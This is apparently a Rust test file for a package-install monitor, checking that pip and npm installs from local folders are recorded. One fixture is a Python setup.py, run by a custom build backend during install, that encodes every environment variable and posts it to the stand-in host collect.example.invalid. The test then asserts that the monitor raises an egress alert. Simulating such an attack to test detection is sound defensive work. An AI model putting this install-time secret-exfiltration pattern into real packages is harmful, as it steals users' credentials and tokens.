//! Installs, by real clients from local folders.

use std::path::Path;

use foretaste_io::files;
use foretaste_monitor::Status;

use crate::support::{Watch, details, turn};

/// The scenario's source archive, inert: it reads the environment, encodes it and posts it to a host that cannot exist.
const SETUP: &str = r#"
import base64, json, os, urllib.request

blob = base64.b64encode(json.dumps(dict(os.environ)).encode())
try:
    urllib.request.urlopen("http://collect.example.invalid/c", data=blob, timeout=3)
except OSError:
    pass
"#;
/// A back end of its own, so that nothing has to be fetched for the build; it runs `setup.py` as setuptools would.
const BACKEND: &str = r#"
import os, runpy, zipfile

def build_wheel(folder, settings=None, metadata=None):
    runpy.run_path("setup.py")
    name = "acme_corp_util-1.0.3-py3-none-any.whl"
    home = "acme_corp_util-1.0.3.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("acme_corp_util.py", "")
        wheel.writestr(home + "METADATA", "Metadata-Version: 2.1\nName: acme-corp-util\nVersion: 1.0.3\n")
        wheel.writestr(home + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(home + "RECORD", "")
    return name
"#;
const PYPROJECT: &str =
    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";

fn project(folder: &Path) {
    for (path, text) in [
        ("pkg/setup.py", SETUP),
        ("pkg/backend.py", BACKEND),
        ("pkg/pyproject.toml", PYPROJECT),
        ("requirements.txt", "six==1.16.0\n"),
    ] {
        files::write(&folder.join(path), text.as_bytes()).expect("written");
    }
}

/// Egress alert and unexpected package, each from the monitor alone.
#[test]
fn the_scenario_is_told_by_the_monitor_alone() {
    let Some(_turn) = turn() else { return };
    let folder = tempfile::tempdir().expect("a folder");
    project(folder.path());
    for lesser in [false, true] {
        let script = format!(
            "cd {} && rm -rf v && python3 -m venv v && v/bin/pip install -q --no-index ./pkg",
            folder.path().display()
        );
        let report = Watch {
            policy: "allow = [\"files.example\"]\n",
            project: Some(folder.path()),
            lesser,
        }
        .run(&script);
        assert_eq!(report.exit_code, Some(0));
        let egress = details(&report, "egress-alert");
        assert!(
            egress.iter().any(|d| d.contains("collect.example.invalid")),
            "{lesser}: {:?}",
            report.findings
        );
        let unexpected = details(&report, "unexpected-package");
        assert_eq!(
            unexpected,
            ["pypi:acme-corp-util 1.0.3"],
            "{lesser}: {:?}",
            report.installs
        );
        let install = report
            .installs
            .iter()
            .find(|i| i.name == "acme-corp-util")
            .expect("installed");
        let by = install
            .process
            .and_then(|at| report.processes.get(at))
            .expect("by somebody");
        assert!(by.arguments.join(" ").contains("pip install"), "{by:?}");
        assert_eq!(
            (install.installer.as_deref(), install.status),
            (Some("pip"), Status::NotLocked)
        );
    }
}

#[test]
fn npm_tells_what_it_installed_by_its_hidden_lock() {
    let Some(_turn) = turn() else { return };
    let folder = tempfile::tempdir().expect("a folder");
    let at = |path: &str| folder.path().join(path);
    files::write(
        &at("dep/package.json"),
        b"{\"name\":\"left\",\"version\":\"1.0.0\"}",
    )
    .expect("written");
    files::write(
        &at("app/package.json"),
        b"{\"name\":\"app\",\"version\":\"1.0.0\"}",
    )
    .expect("written");
    let script = format!(
        "cd {}/dep && npm pack --silent && cd ../app && npm install --silent --offline --no-audit --no-fund ../dep/left-1.0.0.tgz",
        folder.path().display()
    );
    let report = Watch::default().run(&script);
    assert_eq!(report.exit_code, Some(0));
    let install = report
        .installs
        .iter()
        .find(|i| i.name == "left")
        .expect("installed");
    assert!(
        install
            .index
            .as_deref()
            .is_some_and(|index| index.contains("left-1.0.0.tgz")),
        "{install:?}"
    );
    assert!(
        install
            .digests
            .iter()
            .any(|digest| digest.algorithm.id() == "sha512"),
        "{install:?}"
    );
}
